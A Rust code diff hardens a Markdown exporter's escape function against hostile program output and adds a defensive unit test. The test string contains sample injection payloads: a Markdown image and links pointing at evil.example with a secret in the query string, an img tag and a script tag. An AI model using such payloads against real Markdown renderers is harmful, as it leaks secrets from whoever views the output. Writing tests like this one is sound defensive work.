@@ -7,11 +7,24 @@ use super::document::{Document, Table};
 
 pub struct Markdown;
 
-/// A cell's text made safe for a Markdown table row.
+/// Text made inert for Markdown, on one line: every character that can
+/// start a link, an image (both need `[`), an autolink or inline HTML
+/// (`<`), or code is backslash-escaped (CommonMark's escapes of ASCII
+/// punctuation; emphasis is harmless and stays readable), and the
+/// `://` and `www.` of a bare URL get a zero-width space, so GitHub's
+/// extended autolinks do not make it a link either. Notes quote programs'
+/// stderr: a contributed program could print `![x](https://host/?secret)`,
+/// an image whoever renders summary.md would fetch.
 fn escape(s: &str) -> String {
-    strip_ansi_escapes::strip_str(s)
-        .replace('|', "\\|")
-        .replace(['\n', '\r'], " ")
+    let text = strip_ansi_escapes::strip_str(s).replace(['\n', '\r'], " ");
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        if matches!(c, '\\' | '`' | '[' | ']' | '<' | '>' | '|') {
+            out.push('\\');
+        }
+        out.push(c);
+    }
+    out.replace("://", ":\u{200b}//").replace("www.", "www\u{200b}.")
 }
 
 pub fn table(t: &Table) -> String {
@@ -54,6 +67,8 @@ impl Exporter for Markdown {
             }
         }
         if !doc.charts.is_empty() {
+            // The chart ids are langbench's own (benchmark names), not text
+            // from a program.
             out.push_str("\nCharts: ");
             let links: Vec<String> = doc
                 .charts
@@ -64,5 +79,39 @@ impl Exporter for Markdown {
             out.push('\n');
         }
         Ok(out.into_bytes())
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::escape;
+    use pulldown_cmark::{Event, Parser, Tag};
+
+    /// What a hostile program could print into a note renders as text:
+    /// a CommonMark parser finds no link, image or HTML in it.
+    #[test]
+    fn a_hostile_note_renders_as_plain_text() {
+        let hostile = "error: ![x](https://evil.example/?k=secret) <img src=\"https://evil.example/i\"> \
+                       [y](https://evil.example/l) <https://evil.example/a> [r][1]\n\n[1]: https://evil.example/r \
+                       `code` **bold** <script>alert(1)</script>";
+        let md = format!("- {}\n", escape(hostile));
+        for e in Parser::new(&md) {
+            match e {
+                Event::Start(Tag::Link { .. } | Tag::Image { .. })
+                | Event::Html(_)
+                | Event::InlineHtml(_)
+                | Event::Code(_) => panic!("{e:?} in {md}"),
+                _ => {}
+            }
+        }
+        // The words are all still there for a reader.
+        let text: String = Parser::new(&md)
+            .filter_map(|e| match e {
+                Event::Text(t) => Some(t.into_string()),
+                _ => None,
+            })
+            .collect();
+        assert!(text.contains("![x](https:\u{200b}//evil.example/?k=secret)"), "{text}");
+        assert!(text.contains("<script>alert(1)</script>"), "{text}");
     }
 }
